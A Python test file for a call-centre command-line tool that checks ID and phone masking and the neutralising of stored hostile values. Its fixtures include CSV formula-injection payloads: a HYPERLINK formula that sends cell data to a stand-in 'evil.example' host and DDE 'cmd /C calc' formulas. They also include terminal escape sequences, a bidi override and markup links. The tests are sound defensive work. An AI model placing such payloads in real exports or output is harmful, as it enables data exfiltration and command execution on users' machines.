"""Personal data masked and stored values shown safely: one test for each leak and injection found by the probe.

The centre runs for real (server, PBX and store on the in-process bus, in
virtual time); values no input check would let in today are written into the
database directly, as an older version or another tool could have stored them,
because what is shown must be safe whatever is stored.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import sqlite3
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from cti.casework.people import Person
from cti.cli import main
from cti.cli.output import FORMULA_STARTS, csv_safe
from cti.cli.tables import Column, print_table
from cti.cli.terminal import clean
from cti.live import messages as m
from cti.live.bus import LocalBus
from routing.centre import Centre
from routing.testing import agency, agent, centre
from tests.cti.live import Live, live

ID = "A123456789"
NOTES = "身分證A123456789號；小寫a123456789；全形Ａ１２３４５６７８９；回電(049) 2345-678、０９１２－３４５－６７８"
LIN = Person(
    "P0000001", "林志明", "dgpa", "科員", "049-2345-6789", "0933-111-222", "p1@dgpa.gov.tw", "B120000005", False
)
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"details")'
CALC = "=cmd|' /C calc'!A0"
SUM = "-2+3+cmd|' /C calc'!A0"
LATER = ("--at", "2027-01-15T17:00:00+08:00")  # after the run below (which starts 16:00 in Taipei)


def _centre() -> Centre:
    return centre([agent("N1", "nantou", {"webhr": 3})], agencies=[agency("dgpa")], wrap_up_s=5)


class Run:
    def __init__(self, db: Path, centre_: Live) -> None:
        self.db = db
        self.centre = centre_
        self.case = {call_id: rec.case_id or "" for call_id, rec in centre_.calls.items()}

    def cli(self, *argv: str) -> tuple[int, str, str]:
        out, err = io.StringIO(), io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = main([*argv, "--db", str(self.db)])
        return code, out.getvalue(), err.getvalue()

    def ok(self, *argv: str) -> str:
        code, out, err = self.cli(*argv)
        assert code == 0, err
        return out

    def sql(self, statement: str, params: tuple[object, ...] = ()) -> list[tuple[object, ...]]:
        with sqlite3.connect(self.db) as con:
            return con.execute(statement, params).fetchall()


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    """Two calls from Lin: the first's notes and IVR value hold an ID and numbers; the second pops with it."""
    db = tmp_path_factory.mktemp("safe") / "c.db"

    async def script(c: Live) -> None:
        c.agent(m.Login(agent_id="N1"))
        await c.at(1)
        for n, call_id in enumerate(("c1", "c2")):
            t = 1 + 60 * n
            await c.at(t)
            c.dial(call_id, agency="dgpa", caller=LIN.mobile, ivr={"system": "webhr", "said": f"ID {ID} 0912-345-678"})
            await c.at(t + 1)
            c.agent(m.Answer(agent_id="N1", call_id=call_id))
            await c.at(t + 5)
            c.agent(m.HangUp(agent_id="N1", call_id=call_id))
            await c.at(t + 6)
            c.agent(m.WrapUp(agent_id="N1", call_id=call_id, disposition="how-to", notes=NOTES, action="escalate",
                             escalate_to="second-line"))  # fmt: skip
            await c.at(t + 20)
        await c.at(300)  # the wrap-ups end and the store has written everything

    run = Run(db, live(_centre(), db, script, people=[LIN]))
    run.ok("roles", "import", "--by", "S01")  # the default centre's supervisor S01 may unmask
    return run


# ---------------------------------------------------------------- finding 5: masking


def _no_personal_data(text: str) -> None:
    for whole in (
        ID,
        "a123456789",
        "Ａ１２３４５６７８９",
        "(049) 2345-678",
        "2345-678",
        "０９１２－３４５",
        "0912-345",
    ):
        assert whole not in text


def test_ids_beside_chinese_lowercase_and_full_width_and_phones_in_any_format_are_masked_in_every_view(
    run: Run,
) -> None:
    case_id = run.case["c1"]
    views = {
        "export cases": run.ok("export", "cases"),
        "cases show": run.ok("cases", "show", case_id),
        "cases show --json": run.ok("cases", "show", case_id, "--json"),
        "cases list --json": run.ok("cases", "list", "--json"),
        "calls show --json": run.ok("calls", "show", "c2", "--json"),
        "calls show": run.ok("calls", "show", "c2"),
    }
    for name, text in views.items():
        assert "身分證A******789號" in text, name
        _no_personal_data(text)
    history = json.loads(views["calls show --json"])["screen_pop"]["history"]
    assert history[0]["notes"].startswith("身分證A******789號；小寫a******789；全形Ａ******７８９；回電(***) ****-678")


def test_ivr_values_are_masked_in_the_call_and_in_its_screen_pop(run: Run) -> None:
    doc = json.loads(run.ok("calls", "show", "c1", "--json"))
    assert doc["ivr"]["said"] == "ID A******789 ****-***-678"
    assert doc["screen_pop"]["ivr"]["said"] == "ID A******789 ****-***-678"
    assert ID not in run.ok("calls", "show", "c1")


def test_the_agents_screen_pop_keeps_the_numbers_to_call_back_but_shows_no_national_id(run: Run) -> None:
    pop = next(o.pop for _, o in run.centre.offers() if o.call_id == "c2")
    assert pop is not None
    assert pop.caller == LIN.mobile  # the agent calls back
    assert pop.history[0].notes is not None
    assert pop.history[0].notes.startswith("身分證A******789號；小寫a******789；全形Ａ******７８９；回電(049) 2345-678")
    assert pop.ivr["said"] == "ID A******789 0912-345-678"


def test_the_unmasked_view_of_a_supervisor_still_shows_the_notes_as_written(run: Run) -> None:
    doc = json.loads(run.ok("cases", "show", run.case["c1"], "--json", "--unmasked", "--by", "S01"))
    assert doc["notes"] == NOTES


def test_the_errors_topic_excerpt_of_a_raw_payload_masks_the_caller_number_and_ids() -> None:
    bus = LocalBus()
    errors = bus.subscribe(m.ERRORS)
    payload = '{"type": "dial", "call_id": "c1", "caller": "0912-345-678", "note": "身分證A123456789號"'
    bus.publish_raw(m.TRUNK_IN, payload.encode())
    [delivery] = errors.drain()
    assert isinstance(delivery.message, m.Error)
    excerpt = delivery.message.excerpt
    assert '"caller": "****-***-678"' in excerpt
    assert "身分證A******789號" in excerpt


# ---------------------------------------------------------------- finding 6: injection


@pytest.fixture(scope="module")
def hostile(run: Run) -> Run:
    """Formulas in the channel, owner and notes; markup in an IVR value and the owner; escapes in a name."""
    run.sql("UPDATE calls SET channel = ?, ivr = ? WHERE call_id = 'c1'",
            (CALC, json.dumps({"said": "[/bold]", "menu": "[link=https://evil.example]press 1[/link]"})))  # fmt: skip
    run.sql("UPDATE cases SET owner = ?, notes = ?, channel = ? WHERE case_id = ?",
            (HYPERLINK, SUM, CALC, run.case["c1"]))  # fmt: skip
    name, title = "\x1b[2J\x1b[31m林志明\x1b[0m", "\u202e科員\x07"
    run.sql("UPDATE people SET name = ?, title = ? WHERE person_id = ?", (name, title, LIN.person_id))
    for call_id in ("c1", "c2"):  # the pops as stored
        [(text,)] = run.sql("SELECT pop FROM screen_pops WHERE call_id = ?", (call_id,))
        pop = json.loads(str(text))
        pop["profile"].update(name=name, title=title)
        if call_id == "c1":
            pop["ivr"] = {"said": "[/bold]", "menu": "[link=https://evil.example]press 1[/link]"}
        run.sql("UPDATE screen_pops SET pop = ? WHERE call_id = ?", (json.dumps(pop), call_id))
    return run


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed_with_a_quote_in_every_export(hostile: Run) -> None:
    cases = {r["case_id"]: r for r in _rows(hostile.ok("export", "cases"))}
    case = cases[hostile.case["c1"]]
    assert (case["owner"], case["notes"], case["channel"]) == ("'" + HYPERLINK, "'" + SUM, "'" + CALC)
    calls = {r["call_id"]: r for r in _rows(hostile.ok("export", "calls"))}
    assert calls["c1"]["channel"] == "'" + CALC
    listed = {r["call_id"]: r for r in _rows(hostile.ok("calls", "list", "--csv"))}
    assert listed["c1"]["channel"] == "'" + CALC
    assert listed["c1"]["wait_s"] == calls["c1"]["wait_s"] == repr(float(calls["c1"]["wait_s"]))  # numbers as they are


@given(
    st.one_of(
        st.text(),
        st.sampled_from((*FORMULA_STARTS, "＝", "－", "＋", "＠")).flatmap(lambda c: st.text().map(c.__add__)),
    )
)
def test_a_cell_never_starts_a_formula_and_only_ever_gains_a_quote_in_front(text: str) -> None:
    cell = csv_safe(text)
    text = clean(text)  # controls and overrides are dropped first (a tab becomes a space)
    assert cell in (text, "'" + text)
    number = re.fullmatch(r"[-+]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][-+]?[0-9]+)?", text) is not None
    starts = unicodedata.normalize("NFKC", text[:1]).startswith(FORMULA_STARTS)
    assert (cell != text) == (starts and not number)


def test_raw_csv_writes_the_cells_as_stored(hostile: Run) -> None:
    case = {r["case_id"]: r for r in _rows(hostile.ok("export", "cases", "--raw-csv"))}[hostile.case["c1"]]
    assert (case["owner"], case["notes"], case["channel"]) == (HYPERLINK, SUM, CALC)
    assert {r["call_id"]: r for r in _rows(hostile.ok("export", "calls", "--raw-csv"))}["c1"]["channel"] == CALC
    assert {r["call_id"]: r for r in _rows(hostile.ok("calls", "list", "--csv", "--raw-csv"))}["c1"]["channel"] == CALC


def test_stored_markup_is_shown_as_written_and_never_parsed(hostile: Run) -> None:
    out = hostile.ok("calls", "show", "c1")  # a MarkupError before
    assert "said=[/bold]" in out
    assert "menu=[link=https://evil.example]press 1[/link]" in out
    out = hostile.ok("cases", "show", hostile.case["c1"])
    assert HYPERLINK in out


def test_escape_sequences_and_bidi_overrides_in_a_stored_name_never_reach_the_terminal(hostile: Run) -> None:
    for argv in (("directory", "show", LIN.mobile), ("calls", "show", "c2"), ("cases", "show", hostile.case["c2"])):
        out = hostile.ok(*argv)
        assert "[2J[31m林志明[0m" in out, argv  # the text of the sequences, without the escape that starts them
        assert not {"\x1b", "\u202e", "\x07"} & set(out), argv


def test_a_table_cell_is_plain_text_whatever_it_holds() -> None:
    out = io.StringIO()
    console = Console(file=out, width=200, force_terminal=True)
    print_table(console, None, (Column("a"), Column("b")), [["[/bold]", "[link=https://evil.example]x[/link]\x1b[31m"]])
    text = out.getvalue()
    assert "[/bold]" in text
    assert "[link=https://evil.example]x[/link][31m" in text
    assert "\x1b]8;" not in text  # no hyperlink
    assert "\x1b[31m" not in text


# ---------------------------------------------------------------- finding 6: length limits at input


def _people_csv(path: Path, name: str) -> Path:
    path.write_text(
        "name,agency,title,office_phone,mobile,email,national_id\n"
        f'"{name}",dgpa,科員,02-2397-5123,0912-000-111,x@dgpa.gov.tw,F229876543\n',
        encoding="utf-8",
    )
    return path


@pytest.mark.parametrize(
    ("name", "says"),
    [
        ("陳" * 100_000, "name: 100,000 characters; at most 100"),
        ("陳\x00怡君", "name: holds the control character U+0000"),
    ],
)
def test_a_directory_name_too_long_or_with_a_control_character_is_refused_naming_row_and_field(
    run: Run, tmp_path: Path, name: str, says: str
) -> None:
    before = run.sql("SELECT COUNT(*) FROM people")
    code, _, err = run.cli("directory", "import", str(_people_csv(tmp_path / "p.csv", name)))
    assert code == 1
    assert f"p.csv:2: {says}" in err
    assert run.sql("SELECT COUNT(*) FROM people") == before


@pytest.mark.parametrize(
    ("option", "value", "says"),
    [
        ("--note", "x" * 2001, "--note: 2,001 characters; at most 2,000"),
        ("--note", "done\x1b[2J", "--note: holds the control character U+001B"),
        ("--owner", "o" * 101, "--owner: 101 characters; at most 100"),
    ],
)
def test_a_case_note_or_owner_too_long_or_with_a_control_character_is_refused_and_changes_nothing(
    run: Run, option: str, value: str, says: str
) -> None:
    case_id = run.case["c2"]
    before = run.sql("SELECT * FROM cases WHERE case_id = ?", (case_id,)), run.sql("SELECT COUNT(*) FROM case_events")
    argv = (
        ["cases", "assign", case_id, "--owner", "tech1", *LATER]
        if option == "--note"
        else ["cases", "assign", case_id, *LATER]
    )
    code, _, err = run.cli(*argv, option, value)
    assert code == 2
    assert says in err
    assert (
        run.sql("SELECT * FROM cases WHERE case_id = ?", (case_id,)),
        run.sql("SELECT COUNT(*) FROM case_events"),
    ) == before


def test_a_note_may_have_several_lines(run: Run) -> None:
    code, _, err = run.cli(
        "cases", "assign", run.case["c2"], "--owner", "tech1", "--note", "line one\nline two", *LATER
    )
    assert code == 0, err
